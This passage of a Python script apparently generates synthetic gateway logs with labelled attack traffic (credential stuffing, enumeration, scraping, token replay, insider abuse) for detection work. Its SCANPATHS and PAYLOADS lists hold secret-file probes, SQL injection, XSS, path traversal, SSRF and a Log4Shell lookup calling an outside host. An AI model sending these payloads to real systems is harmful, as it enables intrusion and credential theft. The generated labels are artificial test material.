            p = r.choice(w.odd[kind]) if kind in w.odd else w.someone()
            t, tries = w.when(shape, p.cc), tries + 1
            c, steps, *other = fn(w, p, t)
            w.play(other[0] if other else t, c, steps, kind)

# ======================================================================== attacks
SCANPATHS = ["/.env", "/.git/config", "/wp-login.php", "/actuator/env", "/actuator/heapdump", "/api/swagger.json", "/v2/api-docs", "/server-status", "/phpmyadmin/", "/admin", "/backup.zip", "/config.json", "/.aws/credentials", "/graphql", "/console", "/openapi.yaml",
             "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/metrics", "/debug/pprof", "/login.action", "/api/v1/users", "/robots.txt", "/sitemap.xml", "/owa/", "/_ignition/execute-solution", "/solr/admin/info/system", "/telescope/requests"]
PAYLOADS = ["q=%27%20OR%201%3D1--", "q=milk%27%20UNION%20SELECT%20NULL,NULL--", "q=%3Cscript%3Ealert(1)%3C/script%3E", "q=..%2F..%2Fetc%2Fpasswd", "q=%24%7Bjndi:ldap://x.oast.fun/a%7D", "q=%7B%7B7*7%7D%7D", "sort=price%3BSELECT%20SLEEP(5)", "url=http://169.254.169.254/latest/"]

class Attack:
    """One instance: its pace, disguise (0 naive script, 1 copy of the app or site, 2 real devices or browsers), addresses and accounts."""

    def __init__(self, w, kind, name, n, levels="012", vias=("one", "few", "many", "cell"), app=""):
        self.w, self.kind, self.name, self.n, self.app, self.i = w, kind, name, n, app, 0
        self.level, self.via, self.pace = int(r.choice(levels)), r.choice(vias), r.choice(["fast", "fast", "slow", "slow", "bursts"])
        self.cc = r.choices(w.countries, w.cweights)[0]
        span = {"fast": n * r.choice([.05, .3, 1, 3]), "slow": (w.t1 - w.t0) * r.uniform(.3, .95), "bursts": r.uniform(3, 20) * 3600}[self.pace]
        start = max(w.t0 + 1, min(r.choice([r.uniform(w.t0, w.t1), w.when("eats", self.cc)]), w.t1 - span - 10))
        peaks = [start + r.uniform(0, span) for _ in range(r.randint(3, 9))]
        human = self.pace == "slow" and r.random() < .4  # keeps its victims' hours
        self.times = sorted(min(r.choice(peaks) + r.uniform(0, 90) if self.pace == "bursts" else max(start, w.when("shop", self.cc)) + r.random() if human else start + r.random() * span, w.t1 - 1) for _ in range(n))
        self.accounts = [r.choice(w.plain).user for _ in range(r.randint(2, 10))]  # opened or bought earlier: of the form of anyone's
        self.platform = "android" if app else r.choice(["android", "android", "ios", "web"])
        self.version, self.att, self.stack = r.choice(w.versions[-3:]), r.choice(["missing", "missing", "failed", "expired"]), r.choice(list(SCRIPTS))
        self.copytls, self.fixeddevice = r.random() < .4, r.random() < .4
        self.claim = r.choice([f"{w.slug}-web", f"{w.slug}-web", f"{w.slug}-android", None])
        nets = [w.net(r.choice(["dc", "dc", "vpn"])) if r.random() < .7 else w.net("home", self.cc) for _ in range({"one": 1, "few": r.randint(3, 25)}.get(self.via, 0))]
        self.pool, self.cached = [(w.fresh_ip(net, .15), net) for net in nets], {}

    @property
    def left(self):
        return self.n - self.i

    def address(self):
        w = self.w
        if self.pool:
            return r.choice(self.pool)
        if self.via == "cell":
            return w.cell_ip(self.cc)
        p = r.choice(w.people)  # proxies sit in honest homes
        return (p.ip, p.net) if r.random() < .25 else w.residential(self.cc if r.random() < .8 else r.choice(list(TZ)))

    def client(self, who=0, user=None):
        """The client for identity number `who`: the same device and account each time, another address when the instance rotates."""
        w = self.w
        ip, net = self.address()
        if who in self.cached:
            return self.cached[who].at(ip, net) if r.random() < .7 else self.cached[who]
        key, caller = f"{self.name}-{0 if self.fixeddevice else who}", f"attacker-{self.name}"
        if self.level == 0:
            c = w.script(caller, self.claim, net, ip, self.stack, user=user, session=w.hexid("s", key) if user else None)
            if self.claim == f"{w.slug}-android":
                c.att, c.platform = "missing", "android"
        elif self.platform == "web":
            c = w.web(caller, ip, net, user=user)
        else:
            c = w.app(caller, self.platform, self.version, ip, net, self.app, key=key, user=user, att="ok" if self.level == 2 else self.att)
        c.stack = c.stack if self.level == 2 or self.copytls else self.stack
        self.cached[who] = c
        return c

    def account(self, per):
        k = self.i // per % len(self.accounts)
        return self.client(k, self.accounts[k])

    def req(self, c, op, /, status=None, subject=None, query=None, path=None, waf=0, method=None, **ids):
        if self.left > 0:
            self.w.emit(self.times[self.i], c, op, self.kind, ids, status, "attack", self.name, subject, query, path, waf, method=method, captcha=self.level == 2 and r.random() < .7)
            self.i += 1

    def cover(self, c, p=.3):
        if self.level == 2 and r.random() < p:
            self.req(c, r.choice(["ping", "offers"] if self.app else ["home", "config", "search", "restos", "mycoupons"]))

    def take(self, p, c, ops):
        """An account in the attacker's hands: these calls, and for a while after them; often its owner comes by meanwhile."""
        w = self.w
        start = self.times[min(self.i, self.n - 1)]
        c.user = p.user
        for op in ops:
            self.req(c, op, c=p.i, o=r.choice(p.orders))
        end = self.times[self.i - 1] + r.uniform(600, 20000)
        w.takeovers.setdefault(p.name, []).append((start, end))
        if r.random() < .6:
            t = r.uniform(start, end)
            w.play(t, *person(w, p, t, eats_steps), "meal-orderer")

LOOT = "me cards points mycoupons orders setme spend search add checkout pay basket order".split()

def a_stuffing(w, A):
    # success: Azion says 0.1-0.2 % of pairs, sellers of filtered lists 0.5-2 %; drawn between
    hit, who = 10 ** r.uniform(-3, -1.7), 0
    while A.left:
        c, who, p = A.client(who), who + (r.random() < .8), r.choice(w.people)
        A.cover(c)
        known = r.random() < .25
        if known and r.random() < hit * 4:
            A.req(c, "login", 200, p.subject)
            A.take(p, A.client(f"hit{who}"), LOOT[:r.randint(2, 6)])
        else:
            A.req(c, "login", 404 if w.leaky and not known else w.loginfail, p.subject if known else w.subject(2000000 + r.randint(0, 900000), A.cc))

def a_repeat(w, A):
    """The kinds that do one thing again and again."""
    per = r.choice([1, 3, 10, 60])
    while A.left:
        c = A.client(A.i // per)
        A.cover(c, .15)
        if A.kind == "password-spraying":
            A.req(c, "login", 200 if r.random() < .006 else w.loginfail, r.choice(w.people).subject)
        elif A.kind == "sms-pumping":
            A.req(c, r.choice(["otpsend", "otpsend", "reset"]), None, w.subject(3000000 + A.i, A.cc))
        elif A.kind == "search-flood":
            A.req(c, r.choice(["search", "search", "suggest", "restos"]), [None] * 6 + [503])
        else:
            A.req(c, r.choice(["search", "restos", "order", "suggest", "coupon"]), [200, 400, 403, 500, 200], query=r.choice(PAYLOADS), waf=r.choice([0, 5, 8, 10, 15, 25]))

def a_takeover(w, A):
    """With bought passwords, or with stolen session cookies and no sign-in at all."""
    stolen = r.random() < .4
    while A.left:
        p, c, ops = r.choice(w.plain[:len(w.plain) // 2]), A.client(f"v{A.i}"), LOOT[:]
        if stolen:
            c.session = w.hexid("ses", p.name)
        else:
            A.req(c, "login", 200, p.subject)
        if r.random() < .6:
            r.shuffle(ops)
        A.take(p, c, ops[:r.randint(5, 13)])

def a_walk(w, A):
    """Over ids or codes in order, with leaps: others' orders, receipts, bookings and profiles, cards, gift cards, coupons."""
    seen = r.choice([("order", "o"), ("receipt", "o"), ("track", "o"), ("meals", "o"), ("booking", "b"), ("user", "u")])
    (op, k), at, hit, miss, per, member = {
        "bola-object-walk": (seen, r.randint(0, w.orderno // 2), .8 if w.bola_open and r.random() < .7 else .01, w.denied, r.choice([30, 200]), True),
        "loyalty-card-walk": (("points", "c"), r.randint(0, 60000), .25, [404, w.denied], 40, True),
        "gift-card-enumeration": ((w.giftop, "g"), r.randint(0, 9 ** 7), r.uniform(.002, .03), w.badcode, 5, False),
        "coupon-enumeration": (r.choice([("coupon", "q"), ("apply", "q")]), r.randint(60, 10 ** 6), .015, w.badcode, 12, r.random() < .5)}[A.kind]
    while A.left:
        c = A.account(per) if member else A.client(A.i // per)
        A.cover(c, .2)
        at += r.choice([1] * 9 + [7])
        A.req(c, op, 200 if r.random() < hit else miss, **{k: at})

def a_bfla(w, A):
    good = r.choice([[], [], [200]])
    while A.left:
        c = A.account(999)
        A.cover(c, .4)
        A.req(c, r.choice("astaff areport acust afind agoodwill pick pprice till aorder queue soldout menupush".split()), r.choice([403, 403, 401, 404, 403, 405] + good))

def a_otp(w, A):
    while A.left:
        c = A.client(A.i // 20)
        A.req(c, "otpsend", None, r.choice(w.people).subject)
        for _ in range(r.randint(5, 40)):
            A.req(c, "otpcheck", 200 if r.random() < .004 else r.choice([w.badcode] * 4 + [429]))

def a_signup(w, A):
    k = r.randint(0, 90000)
    while A.left:
        c, k = A.client(f"n{k}"), k + 1
        A.cover(c)
        A.req(c, "signup", r.choice([201, 201, 201, 409, 422]), w.subject(4000000 + k, A.cc))
        A.req(c, "otpsend", None, w.subject(4000000 + k, A.cc))
        A.req(c, "otpcheck", 200)
        c.user = w.eid("u", 100000 + k % 9000)
        for op in r.choice([["referral", "mycoupons"], ["referral"], ["apply", "meal", "pay"], ["mycoupons", "activate"]]):
            A.req(c, op)

def a_scalp(w, A):
    """Tables of the best places, or delivery slots before a holiday, taken to resell or to hold."""
    look, take = r.choice([("tables", "book"), ("tables", "book"), ("slots", "hold")])
    goods = [r.randint(0, 12) for _ in range(3)]
    while A.left:
        c = A.account(15)
        for _ in range(r.randint(2, 12)):
            A.req(c, look, r=r.choice(goods))
        A.req(c, take, r.choice([None, None, 409]))

def a_scrape(w, A):
    op = r.choice(["product", "price", "menu", "stock", "cat"])
    k = {"menu": "r", "cat": "k"}.get(op, "p")
    size, per, walk, member = {"r": w.nresto, "k": 400}.get(k, w.nprod), r.choice([8, 50]), r.random() < .6, r.random() < .3
    at = r.randint(0, size - 1)
    while A.left:
        c = A.account(per) if member else A.client(A.i // per)
        A.cover(c, .15)
        at = (at + 1 if walk else r.randint(0, size - 1)) % size
        A.req(c, op, r.choice([None] * 30 + [404]), **{k: at})

def a_poison(w, A):
    """Scraping that starts among the ordinary and grows, so that what is learned grows with it."""
    A.times = sorted(w.t0 + 10 + (w.t1 - w.t0 - 20) * r.random() ** .45 for _ in range(A.n))
    a_scrape(w, A)

def a_scan(w, A):
    c = A.client()
    while A.left:
        if r.random() < .04:  # not HTTP at all
            A.req(c.at(*A.address()), "health", 400, path="", method="_OTHER")
        A.req(c.at(*A.address()), "health", r.choice([404, 404, 404, 404, 403, 200, 301]), path=r.choice(SCANPATHS), waf=r.choice([0, 0, 5, 5, 10]), method=r.choice([None, None, None, "HEAD", "POST"]))

def a_leaked_key(w, A):
    victim = partner(w, r.choice(["pricewise", "lightpos", "gastrosoft", "tablefinder", "orderhub"]))
    ops, ua = r.choice([["plist", "pfeed", "pfeed", "pfeed"], ["porders", "porders", "pstatus"], ["ptables", "pbook"]]), victim.ua if A.level else r.choice(SCRIPTS[A.stack])
    while A.left:
        c = Client(f"attacker-{A.name}", "server", victim.api, ua, *A.address(), stack=A.stack if A.level < 2 else victim.stack)
        A.req(c, r.choice(ops), r.choice([None] * 12 + [403]))

def a_courier_bot(w, A):
    """Repackaged courier app: polls for offers faster than hands can, takes the best, walks a made-up way."""
    first = r.randint(0, 79)
    while A.left:
        k = A.i // 60
        c = A.client(k, w.staffform.format(70000 + (k * 7 + first) % 80))
        A.req(c, r.choice(["offers"] * 6 + ["ping", "ping"]))
        if r.random() < .08:
            j = r.randint(0, 40000)
            A.req(c, "accept", r.choice([200, 200, 409]), j=j)
            A.req(c, "jobstep", j=j)

def a_replay(w, A):
    """A few genuine tokens, lifted from real devices, sent from everywhere."""
    A.platform, A.copytls, A.att = r.choice(["android", "ios"]), r.random() < .6, "ok"
    tokens, rejected, op = [digest("jti", w.seed, A.name, k)[:20] for k in range(r.randint(1, 3))], r.choice([0, .3]), r.choice(["login", "price", "checkout", w.giftop, "product"])
    while A.left:
        c = A.client(A.i // 4)
        c.att, c.token = "failed" if r.random() < rejected else "ok", r.choice(tokens)
        A.req(c, op, {"login": w.loginfail, "checkout": r.choice([402, 201]), w.giftop: w.badcode}.get(op), w.subject(5000000 + A.i, A.cc) if op == "login" else None)

def a_farm(w, A):
    """Real phones in a rack, attested genuine: welcome offers, reviews, claims."""
    A.platform, A.fixeddevice = r.choice(["android", "android", "ios"]), False
    phones, goods, first = r.randint(6, 30), r.randint(0, w.nresto - 1), r.randint(0, 9000)
    while A.left:
        k = r.randint(0, phones)
        c = A.client(f"f{k}", w.eid("u", 100000 + first + k))
        for op in r.choice([["home", "referral", "mycoupons"], ["restos", "menu", "review"], ["apply", "checkout", "pay"], ["orders", "refund"], ["mycoupons", "activate", "activate"]]):
            A.req(c, op, r=goods)

def a_carding(w, A):
    while A.left:
        c = A.account(14)
        A.req(c, "add")
        for _ in range(r.randint(2, 10)):
            A.req(c, "pay", 200 if r.random() < .08 else 402)

def a_insider(w, A):
    """Support staff with honest rights: reading customers they have no case for, or vouchers for friends, in their own session at their own desk."""
    k, at, friends, export = r.randint(0, 11), r.randint(0, 2000), [p.user for p in r.sample(w.people, 4)], r.random() < .5
    c = staff(w, f"support-{k}", 50000 + k, w.offices[0])
    while A.left:
        at += 1
        A.req(c, r.choice(["acust", "acust", "afind"] if export else ["agoodwill", "acust"]), u=w.people[at % len(w.people)].user if export else r.choice(friends))

def a_till_fraud(w, A):
    """A cashier, or a copied till key elsewhere, books strangers' receipts to a few cards and tries coupon codes."""
    c, cards = till_client(w), [r.randint(0, 90000) for _ in range(r.randint(1, 5))]
    c = c.at(*A.address()) if r.random() < .5 else c
    c.caller = f"attacker-{A.name}"
    while A.left:
        op = r.choice(["accrue", "accrue", "spend", "coupon"])
        A.req(c, op, r.choice([None, w.badcode]) if op == "coupon" else None, c=r.choice(cards), q=r.randint(0, 900))

ATTACKS = [  # kind, weight, most requests, function, options
    ("credential-stuffing", 3, 600, a_stuffing, {}), ("password-spraying", 2, 300, a_repeat, {}), ("account-takeover", 3, 150, a_takeover, {"levels": "01122"}), ("bola-object-walk", 2, 500, a_walk, {}), ("loyalty-card-walk", 2, 400, a_walk, {}),
    ("bfla-probe", 1, 150, a_bfla, {}), ("gift-card-enumeration", 2, 600, a_walk, {}), ("coupon-enumeration", 2, 400, a_walk, {}), ("otp-guessing", 1.5, 300, a_otp, {}), ("sms-pumping", 1, 300, a_repeat, {}), ("fake-signups", 2, 300, a_signup, {}),
    ("table-and-slot-scalping", 2.5, 300, a_scalp, {}), ("scraping", 3, 600, a_scrape, {}), ("baseline-poisoning", 1, 500, a_poison, {"levels": "12", "vias": ("few", "one", "cell")}), ("search-flood", 1, 600, a_repeat, {}),
    ("scanner", 2, 200, a_scan, {"levels": "00012", "vias": ("one", "few")}), ("payload-attack", 1.5, 200, a_repeat, {"levels": "001"}), ("leaked-partner-key", 1.5, 400, a_leaked_key, {"vias": ("one", "few", "many")}),
    ("courier-app-bot", 1.5, 400, a_courier_bot, {"levels": "112", "vias": ("cell", "few", "one"), "app": "Rider"}), ("attestation-token-replay", 1.5, 300, a_replay, {"levels": "1"}), ("device-farm", 1.5, 300, a_farm, {"levels": "2", "vias": ("one", "cell", "many")}),
    ("card-testing", 1.5, 300, a_carding, {}), ("insider", 1.5, 120, a_insider, {"levels": "2", "vias": ("one",)}), ("till-fraud", 1, 80, a_till_fraud, {"levels": "1"})]

def attacks(w, budget):
    chosen = r.sample(ATTACKS, r.randint(19, 22))
    todo = chosen + r.choices(chosen, [a[1] for a in chosen], k=r.randint(44, 58) - len(chosen))
    sizes = [min(max(r.lognormvariate(math.log(60), .9), 20), a[2]) for a in todo]
    for _ in range(6):  # scaled to the budget, within each kind's limits
        f = budget / sum(sizes)
        sizes = [min(max(s * f, 20), a[2]) for s, a in zip(sizes, todo)]
    seen = {}
    for (kind, _, _, fn, opts), n in zip(todo, sizes):
        seen[kind] = seen.get(kind, 0) + 1
        fn(w, Attack(w, kind, f"{kind}-{seen[kind]}", int(n), **opts))

def limiter(w):
    """The gateway's own limit per address and minute; partners, stores and health checks are exempt. Honest NAT meets it too."""
    count = {}
    for t, _, ev, _, exempt in w.out:
        key = (ev["client.address"], int(t // 60))
        count[key] = count.get(key, 0) + 1
        if w.limit and count[key] > w.limit and not exempt:
            ev["http.response.status_code"] = 429
            ev.update({k: v for k, v in (("http.response.size", 58 + count[key] % 7), ("http.server.request.duration", .001)) if k in ev})

def main():
    seed, outdir = int(sys.argv[1]), sys.argv[2]
    w = World(seed)
    share = r.uniform(.028, .08)
    honest(w, w.total * (1 - share))
    attacks(w, w.total * share)
    w.out.sort(key=lambda e: e[:2])
    limiter(w)
    os.makedirs(outdir, exist_ok=True)
    with open(os.path.join(outdir, "events.ndjson"), "w") as fe, open(os.path.join(outdir, "labels.ndjson"), "w") as fl:
        for n, (t, _, ev, lab, _) in enumerate(w.out):
            eid = f"{w.slug}-{seed}-{n:06d}"
            when = int(t * 1000) if w.epoch_ms else datetime.fromtimestamp(int(t * 1000) / 1000, timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")
            fe.write(json.dumps({"time": when, "event_id": eid, **ev}) + "\n")
            if lab["label"] == "benign" and any(a <= t <= b for a, b in w.takeovers.get(lab["caller"], ())):
                lab["victim"] = True
            fl.write(json.dumps({"event_id": eid, **lab}) + "\n")

if __name__ == "__main__":
    main()
